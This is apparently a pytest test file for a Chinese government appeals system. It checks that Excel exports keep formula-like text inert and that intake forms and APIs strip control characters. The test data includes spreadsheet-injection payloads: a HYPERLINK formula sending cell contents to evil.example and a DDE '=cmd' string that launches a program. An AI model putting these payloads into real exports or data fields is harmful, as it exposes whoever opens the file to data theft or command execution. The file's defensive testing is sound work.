"""Exports that cannot break and cannot attack: a control character in stored text no longer makes
the export a 500, a text that looks like a formula stays text in Excel, and every intake path
removes control characters before they are stored (and says so)."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from rest_framework.test import APIClient

from zhengwu.appeals.models import ApiClient, Appeal, Category
from zhengwu.appeals.services import hash_api_key
from zhengwu.appeals.workflow import AppealState as S
from zhengwu.catalog import excel as catalog_excel
from zhengwu.core.excel import ExcelWriter

from ..catalog.factories import ServiceItemFactory
from ..factories import DepartmentFactory

HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看详情")'
KEY = "channel-key-0001"


def sheet_of(response) -> Worksheet:
    assert response.status_code == 200
    ws = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert isinstance(ws, Worksheet)
    return ws


def cell_in(ws: Worksheet, header: str, number: str):
    headers = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == number:
            return row[headers.index(header)]
    raise AssertionError(f"{number} not exported")


class TestTheWriter:
    @pytest.mark.parametrize("text", [HYPERLINK, "+86 139", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
    def test_text_that_looks_like_a_formula_is_a_quoted_string(self, text):
        writer = ExcelWriter()
        writer.sheet("表", [("内容", 20)]).append([text])
        cell = load_workbook(BytesIO(writer.to_bytes())).active["A2"]
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")  # XML reads CR as LF
        assert cell.quotePrefix  # Excel shows it as typed and keeps it text when edited

    def test_control_characters_are_removed_and_numbers_stay_numbers(self):
        writer = ExcelWriter()
        writer.sheet("表", [("标题", 20), ("数量", 8)]).append(["路灯\x00不亮\x1b[31m\x07", 3])
        ws = load_workbook(BytesIO(writer.to_bytes())).active
        assert ws["A2"].value == "路灯不亮[31m" and ws["A2"].data_type == "s"
        assert ws["B2"].value == 3 and ws["B2"].data_type == "n"
        assert not ws["A2"].quotePrefix


class TestAppealExports:
    def test_a_control_character_stored_before_intake_cleaned_it_exports_instead_of_a_500(self, desk, client):
        appeal = desk.reach(S.DISPATCHED)
        # (PostgreSQL refuses NUL itself; the writer's own test covers NUL)
        Appeal.objects.filter(pk=appeal.pk).update(title="路灯\x01不亮\x0b", address="幸福路\x1f3号")
        client.force_login(desk.dispatcher)
        ws = sheet_of(client.get(reverse("appeals:export")))
        assert cell_in(ws, "标题", appeal.number).value == "路灯不亮"
        assert cell_in(ws, "地点", appeal.number).value == "幸福路3号"
        client.force_login(desk.lead_handler)
        ws = sheet_of(client.get(reverse("appeals:inbox_export"), {"tab": "pending"}))
        assert cell_in(ws, "标题", appeal.number).value == "路灯不亮"

    def test_a_formula_title_is_a_plain_string_cell(self, desk, client):
        appeal = desk.reach(S.DISPATCHED)
        Appeal.objects.filter(pk=appeal.pk).update(title=HYPERLINK, contact_name="=1+2")
        client.force_login(desk.dispatcher)
        ws = sheet_of(client.get(reverse("appeals:export")))
        title = cell_in(ws, "标题", appeal.number)
        assert title.data_type == "s" and title.value == HYPERLINK and title.quotePrefix
        assert cell_in(ws, "联系人", appeal.number).data_type == "s"
        client.force_login(desk.lead_handler)
        ws = sheet_of(client.get(reverse("appeals:inbox_export"), {"tab": "pending"}))
        assert cell_in(ws, "标题", appeal.number).data_type == "s"


class TestCatalogueExport:
    def test_an_item_named_like_a_formula_stays_text(self, db):
        item = ServiceItemFactory(name="=cmd|' /C calc'!A0", department=DepartmentFactory(name="市场监管局"))
        data = catalog_excel.export_items(catalog_excel.export_queryset("all"))
        ws = load_workbook(BytesIO(data))[catalog_excel.SHEET_ITEMS]
        (row,) = [r for r in ws.iter_rows(min_row=2) if r[0].value == item.implementation_code]
        assert row[1].value == "=cmd|' /C calc'!A0" and row[1].data_type == "s"


class TestIntakeRemovesControlCharacters:
    def test_the_public_form_says_so_and_stores_clean_text(self, client, db):
        page = client.get(reverse("appeals_public:new")).content.decode()
        assert "不可见的控制字符会被自动去除" in page
        response = client.post(
            reverse("appeals_public:new"),
            {
                "appeal_type": "complaint",
                "title": "路灯不亮\x1b",
                "body": "幸福路\x07路灯\x08不亮。\n请修。",
                "contact_phone": "13912345678",
                "address": "幸福路\x7f3号",
            },
        )
        assert response.status_code == 302, response.content.decode()
        appeal = Appeal.objects.get()
        assert (appeal.title, appeal.body, appeal.address) == (
            "路灯不亮",
            "幸福路路灯不亮。\n请修。",
            "幸福路3号",
        )

    def test_the_operator_intake_form_says_so(self, client, desk):
        client.force_login(desk.operator)
        assert "不可见的控制字符会被自动去除" in client.get(reverse("appeals:intake")).content.decode()

    def test_the_api_stores_clean_text(self, db):
        ApiClient.objects.create(name="掌上办App", key_hash=hash_api_key(KEY), channel="mobile")
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"ApiKey {KEY}")
        payload = {
            "appeal_type": "complaint",
            "title": "=HYPERLINK(1)\x01",
            "body": "道路\x1f破损",
            "contact_name": "张\x02先生",
            "contact_phone": "13800000001",
        }
        response = api.post("/api/appeals/", payload, format="json")
        assert response.status_code == 201, response.content.decode()
        appeal = Appeal.objects.get()
        assert (appeal.title, appeal.body, appeal.contact_name) == ("=HYPERLINK(1)", "道路破损", "张先生")

    def test_open311_stores_clean_text(self, db):
        parent, _ = Category.objects.get_or_create(name="城乡建设", parent=None)
        Category.objects.update_or_create(
            name="城市建设和市政管理",
            parent=parent,
            defaults={"service_code": "CSJS", "is_active": True, "open311_published": True},
        )
        ApiClient.objects.create(name="随手拍", key_hash=hash_api_key(KEY), channel="mobile")
        response = Client().post(
            "/open311/v2/requests.json",
            {
                "api_key": KEY,
                "service_code": "CSJS",
                "description": "路灯\x00不亮\x1b\n已一周",
                "phone": "13900000077",
                "address_string": "幸福路\x0c3号",
            },
        )
        assert response.status_code == 201, response.content.decode()
        appeal = Appeal.objects.get()
        assert appeal.title == "路灯不亮" and appeal.body.startswith("路灯不亮\n已一周")
        assert appeal.address == "幸福路3号"
